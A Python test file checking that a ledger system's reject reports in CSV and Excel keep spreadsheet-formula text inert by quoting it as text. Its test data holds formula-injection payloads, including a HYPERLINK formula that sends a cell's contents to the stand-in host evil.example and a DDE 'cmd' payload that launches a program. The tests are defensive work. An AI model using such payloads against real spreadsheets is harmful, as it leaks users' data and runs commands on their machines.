"""Bad-input corpus, reports: ledger text (from a source or a hostile centre) that a spreadsheet would run
as a formula. Every cell of the reject report is text, never a formula, and no row is lost from it. The
rules of the corpus are in ``conftest.py``.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

from openpyxl import load_workbook

from cdyb_jxc.ledger import REJECTED, Ledger
from cdyb_jxc.safety.spreadsheet import FORMULA_STARTS
from cdyb_jxc.upload.engine import Uploader
from cdyb_jxc.upload.reports import SOURCE_ISSUE, write_reject_report
from cdyb_jxc.wire.client import CentreClient
from tests.conftest import INSTITUTION, SECRET, USER, outbound_row

# ---------------------------------------------------------------------------------------------------------
# ledger text a spreadsheet would run: every report cell is text, never a formula
# ---------------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
DAY = "2026-11-20"


def _inserted(text: str, i: int) -> dict[str, Any]:
    now = datetime(2026, 11, 21, 1, 0)
    return {
        "institution_code": INSTITUTION,
        "serial_no": f"CK-LEDGER-{i}",
        "transaction_code": "JXC003",
        "business_date": DAY,
        "mapping_serial_no": text,
        "item_name": text,
        "payload_hash": "0" * 64,
        "state": REJECTED,
        "category": text,
        "field": text,
        "detail": text,
        "attempts": 2,
        "held_back": 0,
        "first_seen_at": now,
        "updated_at": now,
    }


def test_reject_report_holds_no_live_formula(profile, simulator, tmp_path):
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
    client = CentreClient(
        profile, endpoint=simulator.url, user=USER, verification_code=SECRET, institution_code=INSTITUTION
    )
    # rejected for real (quantity 0 is held back) with a 流水号 and an item name that start like formulas
    rows = [
        outbound_row(f"{text[0]}CK{i}", hospital_item_name=text, quantity="0")
        for i, text in enumerate(FORMULAS)
    ]
    Uploader(
        profile=profile, txn_key="outbound", institution_code=INSTITUTION, sender=client, ledger=ledger,
        resend_attempts=0,
    ).run([[*rows, outbound_row("")]])  # fmt: skip
    # reasons and fields from a hostile centre, and tab / CR starts, straight into the ledger
    texts = [*FORMULAS, "\t=1+1", "\r=1+1"]
    ledger.insert_rows([_inserted(text, i) for i, text in enumerate(texts)])
    report = write_reject_report(ledger, INSTITUTION, [DAY], tmp_path / "reports", "rejects")
    serials = {r["serial_no"] for r in rows} | {f"CK-LEDGER-{i}" for i in range(len(texts))}
    assert report.rows == len(serials) + 1  # and the source issue of the row without 流水号

    with open(report.csv_path, encoding="utf-8-sig", newline="") as fh:
        records = list(csv.DictReader(fh))
    for record in records:
        for column, value in record.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
    shown = {r["流水号 serial_no"] for r in records}
    assert shown >= {"'" + s for s in serials if s.startswith(FORMULA_STARTS)} | {
        s for s in serials if s[0] == "C"
    }
    assert {r["状态 state"] for r in records} == {REJECTED, SOURCE_ISSUE}
    assert {r["发送次数 attempts"] for r in records} == {"0", "2"}  # numbers are written as numbers

    book = load_workbook(report.excel_path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {row[4].value for row in book.active.iter_rows(min_row=2)}
    assert names >= set(texts)  # the exact text, kept as string cells
    ledger.dispose()


def test_csv_report_quotes_a_formula_the_owasp_way(tmp_path):
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
    ledger.insert_rows([_inserted("=1+1", 0)])
    report = write_reject_report(ledger, INSTITUTION, [DAY], tmp_path, "r")
    text = report.csv_path.read_text(encoding="utf-8-sig")
    (row,) = list(csv.reader(io.StringIO(text)))[1:]
    assert row[0] == "CK-LEDGER-0"
    assert row[4] == row[7] == "'=1+1"
    ledger.dispose()
